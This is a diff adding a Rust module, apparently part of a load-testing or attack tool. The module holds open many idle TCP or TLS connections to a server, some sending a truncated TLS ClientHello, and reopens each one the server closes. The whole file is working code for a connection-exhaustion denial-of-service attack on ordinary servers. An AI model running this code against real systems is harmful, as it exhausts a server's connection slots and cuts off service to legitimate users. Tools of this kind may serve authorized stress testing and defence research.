@@ -1,0 +1,77 @@
+//! Connections without a request, as many as a client can hold: each takes a file, and a place among the
+//! connections that a server accepts.
+
+use std::io::{ErrorKind, Write};
+use std::net::TcpStream;
+use std::time::Duration;
+
+use anyhow::Result;
+
+use super::attack::{Attack, Bounds};
+use crate::http1::{Connection, Endpoint};
+
+/// How far the client goes.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Stage {
+    /// A TCP connection and no byte.
+    Silent,
+    /// The beginning of a TLS hello.
+    HalfHello,
+    /// TLS, and no request.
+    Idle,
+}
+
+/// Each client holds so many connections, and opens another one for each that the server closed.
+pub fn connections(endpoint: Endpoint, stage: Stage, each: usize, bounds: Bounds) -> Attack {
+    Attack::start(bounds, move |shift| {
+        let mut open: Vec<Held> = Vec::new();
+        while !shift.is_over() {
+            open.retain(Held::is_open);
+            while open.len() < each && !shift.is_over() {
+                open.push(Held::open(&endpoint, stage)?);
+                shift.sent(1);
+            }
+            shift.pause(PACE);
+        }
+        Ok(())
+    })
+}
+
+enum Held {
+    Tcp(TcpStream),
+    Tls(Box<Connection>),
+}
+
+impl Held {
+    fn open(endpoint: &Endpoint, stage: Stage) -> Result<Self> {
+        if stage == Stage::Idle {
+            let mut connection = endpoint.connect()?;
+            // Flushing nothing completes the handshake.
+            connection.send(b"")?;
+            return Ok(Self::Tls(Box::new(connection)));
+        }
+        let mut socket = endpoint.dial()?;
+        if stage == Stage::HalfHello {
+            socket.write_all(&[22, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3])?;
+        }
+        Ok(Self::Tcp(socket))
+    }
+
+    /// Whether the server has not closed it.
+    fn is_open(&self) -> bool {
+        let socket = match self {
+            Self::Tcp(socket) => socket,
+            Self::Tls(connection) => connection.socket(),
+        };
+        let peeked = socket.set_nonblocking(true).and_then(|()| socket.peek(&mut [0]));
+        let blocking = socket.set_nonblocking(false);
+        // Tickets of TLS come after the handshake and stay unread.
+        blocking.is_ok()
+            && match peeked {
+                Ok(length) => length > 0,
+                Err(error) => error.kind() == ErrorKind::WouldBlock,
+            }
+    }
+}
+
+const PACE: Duration = Duration::from_millis(100);
